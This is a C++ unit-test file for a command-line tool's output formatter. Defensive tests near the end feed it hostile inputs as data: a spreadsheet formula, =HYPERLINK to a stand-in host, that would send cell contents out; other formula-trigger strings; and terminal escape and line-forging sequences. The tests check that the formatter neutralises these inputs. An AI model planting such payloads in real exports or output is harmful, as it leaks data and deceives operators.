// The printed forms. The expected texts are what python3-cliff 4.0.0 prints for the same rows.
#include "cli/format.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <cmath>

namespace reclaim::cli {
namespace {

using ::testing::HasSubstr;

Table devices() {
  return {{"Address", "Progress", "Ok", "Note"},
          {{"0000:c1:00.0", std::int64_t{7}, true, "a \"b\""},
           {"0000:c2:00.0", std::int64_t{100}, false, std::monostate{}}}};
}

Fields device() {
  return {{"Address", "0000:c1:00.0"},
          {"Progress", std::int64_t{7}},
          {"Ok", true},
          {"Note", "a \"b\""}};
}

std::string list(const Table& table, Format format, std::vector<std::string> columns = {}) {
  const auto text = format_list(table, {format, std::move(columns)});
  EXPECT_TRUE(text.ok()) << text.error().what;
  return *text;
}

std::string show(const Fields& fields, Format format, std::vector<std::string> columns = {}) {
  const auto text = format_show(fields, {format, std::move(columns)});
  EXPECT_TRUE(text.ok()) << text.error().what;
  return *text;
}

TEST(Format, ListAsTable) {
  EXPECT_EQ(list(devices(), Format::table), R"(+--------------+----------+-------+-------+
| Address      | Progress | Ok    | Note  |
+--------------+----------+-------+-------+
| 0000:c1:00.0 |        7 | True  | a "b" |
| 0000:c2:00.0 |      100 | False |       |
+--------------+----------+-------+-------+
)");
}

TEST(Format, ShowAsTable) {
  EXPECT_EQ(show(device(), Format::table), R"(+----------+--------------+
| Field    | Value        |
+----------+--------------+
| Address  | 0000:c1:00.0 |
| Progress | 7            |
| Ok       | True         |
| Note     | a "b"        |
+----------+--------------+
)");
}

TEST(Format, ListAsJson) {
  EXPECT_EQ(list(devices(), Format::json), R"([
  {
    "Address": "0000:c1:00.0",
    "Progress": 7,
    "Ok": true,
    "Note": "a \"b\""
  },
  {
    "Address": "0000:c2:00.0",
    "Progress": 100,
    "Ok": false,
    "Note": null
  }
]
)");
}

TEST(Format, ShowAsJson) {
  EXPECT_EQ(show(device(), Format::json), R"({
  "Address": "0000:c1:00.0",
  "Progress": 7,
  "Ok": true,
  "Note": "a \"b\""
}
)");
}

TEST(Format, Csv) {
  EXPECT_EQ(list(devices(), Format::csv), R"("Address","Progress","Ok","Note"
"0000:c1:00.0",7,True,"a ""b"""
"0000:c2:00.0",100,False,""
)");
  EXPECT_EQ(show({{"A", "x"}, {"B", 1.5}}, Format::csv),
            "\"Field\",\"Value\"\n\"A\",\"x\"\n\"B\",1.5\n");
}

TEST(Format, Value) {
  EXPECT_EQ(list(devices(), Format::value),
            "0000:c1:00.0 7 True a \"b\"\n0000:c2:00.0 100 False None\n");
  EXPECT_EQ(show(device(), Format::value), "0000:c1:00.0\n7\nTrue\na \"b\"\n");
}

TEST(Format, Empty) {
  const Table none{{"A"}, {}};
  EXPECT_EQ(list(none, Format::table), "");
  EXPECT_EQ(list(none, Format::json), "[]\n");
  EXPECT_EQ(list(none, Format::csv), "\"A\"\n");
  EXPECT_EQ(list(none, Format::value), "");
  EXPECT_EQ(show({}, Format::json), "{}\n");
}

TEST(Format, ColumnsInAnyCaseAndInTheTablesOrder) {
  EXPECT_EQ(list(devices(), Format::value, {"OK", "address"}),
            "0000:c1:00.0 True\n0000:c2:00.0 False\n");
  EXPECT_EQ(list(devices(), Format::value, {"ok", "Ok"}), "True\nFalse\n");
  EXPECT_EQ(show(device(), Format::value, {"progress"}), "7\n");
  EXPECT_EQ(show(device(), Format::json, {"ok"}), "{\n  \"Ok\": true\n}\n");
}

TEST(Format, UnknownColumnListsThemAll) {
  EXPECT_EQ(format_list(devices(), {Format::json, {"ok", "Adress"}}).error().what,
            "no column 'Adress', there are: Address, Progress, Ok, Note; did you mean 'Address'?");
  EXPECT_EQ(format_show(device(), {Format::table, {"x"}}).error().code, Errc::usage);
  EXPECT_THAT(format_list({{"A"}, {}}, {Format::csv, {"b"}}).error().what,
              HasSubstr("'b', there are: A"));
}

TEST(Format, SeveralLinesAndWideCharacters) {
  const Table table{{"Address", "Progress", "Ok", "Note"},
                    {{"x\ny", std::int64_t{1}, 1.5, "Zo\xC3\xAB \xE6\xA9\x9F"}}};
  EXPECT_EQ(list(table, Format::table),
            "+---------+----------+-----+--------+\n"
            "| Address | Progress |  Ok | Note   |\n"
            "+---------+----------+-----+--------+\n"
            "| x       |        1 | 1.5 | Zo\xC3\xAB \xE6\xA9\x9F |\n"
            "| y       |          |     |        |\n"
            "+---------+----------+-----+--------+\n");
}

TEST(Format, AForeignTextCannotDriveTheTerminal) {
  EXPECT_THAT(list({{"Model"}, {{"a\x1b[2J\tb\r"}}}, Format::table),
              HasSubstr("| a\\x1b[2J b\\x0d |"));
}

TEST(Format, YamlIsReadAsTheSameValues) {
  EXPECT_EQ(list(devices(), Format::yaml), R"(- Address: "0000:c1:00.0"
  Progress: 7
  Ok: true
  Note: "a \"b\""
- Address: "0000:c2:00.0"
  Progress: 100
  Ok: false
  Note: null
)");
  EXPECT_EQ(list({{"A"}, {}}, Format::yaml), "[]\n");
  EXPECT_EQ(show({{"a b", RawJson{"{\"x\": [1]}"}}, {"c:d", 1.5}}, Format::yaml),
            "a b: {\"x\": [1]}\n\"c:d\": 1.5\n");
}

TEST(Format, IsSortedByTypeAndBySeveralColumns) {
  const Table table{{"Name", "Size"},
                    {{"b", std::int64_t{10}},
                     {"a", std::int64_t{9}},
                     {"c", std::int64_t{9}},
                     {"d", std::monostate{}}}};
  View view{Format::value, {"Name"}};
  view.sort = {"size", "Name"};
  EXPECT_EQ(*format_list(table, view), "d\na\nc\nb\n");
  view.descending = true;
  EXPECT_EQ(*format_list(table, view), "b\nc\na\nd\n");
  view.sort = {"weight"};
  EXPECT_EQ(format_list(table, view).error().what,
            "--sort-column: no column 'weight', there are: Name, Size");
}

TEST(Format, StatesAreColouredWhereItIsAskedForAndKeepTheirPlace) {
  const Table table{{"State"}, {{"error"}, {"idle"}}};
  View view;
  view.color = true;
  EXPECT_EQ(*format_list(table, view),
            "+-------+\n| State |\n+-------+\n| \x1b[31merror\x1b[0m |\n| idle  |\n+-------+\n");
  view.format = Format::csv;
  EXPECT_EQ(*format_list(table, view), "\"State\"\n\"error\"\n\"idle\"\n");
}

TEST(Format, OneIsCountedAsOne) {
  EXPECT_EQ(counted(0, "device"), "0 devices");
  EXPECT_EQ(counted(1, "device"), "1 device");
  EXPECT_EQ(counted(2, "device"), "2 devices");
  EXPECT_EQ(counted(1, "entry is", "entries are"), "1 entry is");
  EXPECT_EQ(counted(2, "entry is", "entries are"), "2 entries are");
}

TEST(Format, AgesHaveTwoUnits) {
  EXPECT_EQ(age_text(-5), "0s");
  EXPECT_EQ(age_text(59), "59s");
  EXPECT_EQ(age_text(3'599), "59m59s");
  EXPECT_EQ(age_text(7'325), "2h2m");
  EXPECT_EQ(age_text(90'000), "1d1h");
}

TEST(Format, Width) {
  EXPECT_EQ(display_width("abc"), 3U);
  EXPECT_EQ(display_width("Zo\xC3\xAB"), 3U);
  EXPECT_EQ(display_width("e\xCC\x81"), 1U);         // e and a combining acute
  EXPECT_EQ(display_width("\xF0\x9F\x92\xBE"), 2U);  // a floppy disk
  EXPECT_EQ(display_width("\xFF\xC3"), 2U);
  EXPECT_EQ(display_width("\xED\xA0\x80"), 3U);  // a surrogate is not a character
}

TEST(Format, JsonTypesAndEscapes) {
  const Fields fields{{"raw", RawJson{R"({"a":[1]})"}},
                      {"text", "tab\tline\nbell\x07 back\\ \xFF \xC3\xA9"},
                      {"none", std::monostate{}},
                      {"real", 2.0},
                      {"nan", std::nan("")},
                      {"negative", std::int64_t{-5}}};
  EXPECT_EQ(show(fields, Format::json), R"({
  "raw": {"a":[1]},
  "text": "tab\tline\nbell\u0007 back\\ )"
                                        "\xEF\xBF\xBD \xC3\xA9"
                                        R"(",
  "none": null,
  "real": 2.0,
  "nan": null,
  "negative": -5
}
)");
  EXPECT_EQ(show(fields, Format::value, {"raw", "real"}), "{\"a\":[1]}\n2.0\n");
  EXPECT_THAT(list({{"r"}, {{RawJson{"[\"x\"]"}}}}, Format::csv), HasSubstr("\"[\"\"x\"\"]\""));
}

TEST(Format, Names) {
  EXPECT_EQ(*parse_format("json"), Format::json);
  EXPECT_EQ(*parse_format("value"), Format::value);
  EXPECT_EQ(*parse_format("csv"), Format::csv);
  EXPECT_EQ(*parse_format("table"), Format::table);
  EXPECT_EQ(parse_format("xml").error().what,
            "no format 'xml', there are: table, json, yaml, csv, value");
}

// What somebody else wrote, into Redis or on the bus, is one line for a script.
TEST(Format, ForeignTextBeginsNoLineOfItsOwn) {
  const Table forged{{"Device", "Why"},
                     {{"0000:c1:00.0", "x\n0000:c2:00.0 available\r\x1b[2K \xff \xe2\x80\xae"}}};
  EXPECT_EQ(list(forged, Format::value),
            "0000:c1:00.0 x\\x0a0000:c2:00.0 available\\x0d\\x1b[2K \\xff \\u202e\n");
  EXPECT_EQ(list(forged, Format::csv),
            "\"Device\",\"Why\"\n\"0000:c1:00.0\","
            "\"x\\x0a0000:c2:00.0 available\\x0d\\x1b[2K \\xff \\u202e\"\n");
  EXPECT_EQ(show({{"why", "a\nb\xc2\x85"}}, Format::value), "a\\x0ab\\x85\n");
  EXPECT_EQ(show({{"why", "\xc2\x9b\xe2\x80\xae"}}, Format::json),
            "{\n  \"why\": \"\\u009b\\u202e\"\n}\n");
}

// JSON lets C1 controls and marks of reading direction stand as they are.
// In a spreadsheet it would be obeyed, and could send the other cells away.
TEST(Format, ForeignTextInCsvIsNoFormula) {
  for (const auto& [text, shown] : std::vector<std::pair<std::string, std::string>>{
           {"=HYPERLINK(\"http://x/?\"&C2)", "'=HYPERLINK(\"\"http://x/?\"\"&C2)"},
           {"+1", "'+1"},
           {"-1+1", "'-1+1"},
           {"@SUM(1)", "'@SUM(1)"},
           {"\t=1", "\\x09=1"},
           {"\r=1", "\\x0d=1"},
           {"a=1", "a=1"},
           {"", ""}}) {
    EXPECT_EQ(list({{"A"}, {{text}}}, Format::csv), "\"A\"\n\"" + shown + "\"\n") << text;
    EXPECT_THAT(show({{"a", text}}, Format::csv), HasSubstr("\"a\",\"" + shown + "\"\n")) << text;
    EXPECT_EQ(list({{"A"}, {{text}}}, Format::value).find('\''), std::string::npos);
  }
  EXPECT_EQ(list({{"A", "B"}, {{std::int64_t{-1}, -0.5}}}, Format::csv), "\"A\",\"B\"\n-1,-0.5\n");
}

TEST(Format, ForeignTextInJsonMovesNoCursor) {
  const Fields forged{{"tags", RawJson{"[\"\xc2\x9b\x32J\xc2\x85x\xe2\x80\xae\x7f\x1b\xff\"]"}}};
  const std::string shown = "[\"\\u009b2J\\u0085x\\u202e\\u007f\\u001b\xEF\xBF\xBD\"]";
  EXPECT_EQ(show(forged, Format::json), "{\n  \"tags\": " + shown + "\n}\n");
  EXPECT_EQ(show(forged, Format::yaml), "tags: " + shown + "\n");
  EXPECT_EQ(show(forged, Format::value), shown + "\n");
  EXPECT_THAT(list({{"tags"}, {{forged[0].second}}}, Format::csv), HasSubstr("\\u009b2J"));
  EXPECT_THAT(show(forged, Format::table), HasSubstr("\\u009b2J\\u0085x\\u202e"));
}

}  // namespace
}  // namespace reclaim::cli
